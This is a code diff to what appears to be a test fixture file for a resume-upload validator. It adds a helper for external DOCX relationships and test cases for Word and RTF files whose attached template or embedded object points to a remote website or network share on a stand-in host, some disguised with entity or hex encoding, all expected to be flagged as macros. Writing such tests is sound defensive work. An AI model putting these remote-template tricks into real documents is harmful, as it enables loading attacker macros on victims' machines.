@@ -106,6 +106,11 @@ export function makeDocx(text: string, parts: Record<string, string> = {}): Buff
   })
 }
 
+/** The relationships of a part of a DOCX file, with one to something outside of the file. */
+export const relationship = (part: string, type: string, target: string) => ({
+  [`word/_rels/${part}.xml.rels`]: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+})
+
 export function makeOdt(text: string, parts: Record<string, string> = {}): Buffer {
   return zip({
     mimetype: 'application/vnd.oasis.opendocument.text',
@@ -190,6 +195,22 @@ export const HOSTILE_RESUMES: Record<string, [Buffer, string]> = {
     'unsupported',
   ],
   'a Word document with macros': [makeDocx('Mia', { 'word/vbaProject.bin': 'x' }), 'macros'],
+  'a Word document with a template on a website': [
+    makeDocx('Mia', relationship('settings', 'attachedTemplate', 'https://a.example/macros.dotm')),
+    'macros',
+  ],
+  'a Word document with a template on a share': [
+    makeDocx('Mia', relationship('settings', 'attachedTemplate', 'file:///\\\\a.example\\macros.dotm')),
+    'macros',
+  ],
+  'a Word document with an object on a website, written in entities': [
+    makeDocx('Mia', relationship('document', 'oleObject', '&#x68;ttp://a.example/run?a>b')),
+    'macros',
+  ],
+  'an RTF file with a template on a website': [
+    Buffer.from("{\\rtf1 {\\*\\template \\'68ttp://a.example/macros.dotm}Mia}"),
+    'macros',
+  ],
   'an OpenDocument text with macros': [makeOdt('Mia', { 'Basic/script-lc.xml': 'x' }), 'macros'],
   'an old Word document with macros': [makeCompoundFile(['Root Entry', 'WordDocument', 'Macros']), 'macros'],
   'an RTF file with an embedded program': [Buffer.from('{\\rtf1 {\\object\\objemb {\\*\\objdata 4d5a}}}'), 'macros'],
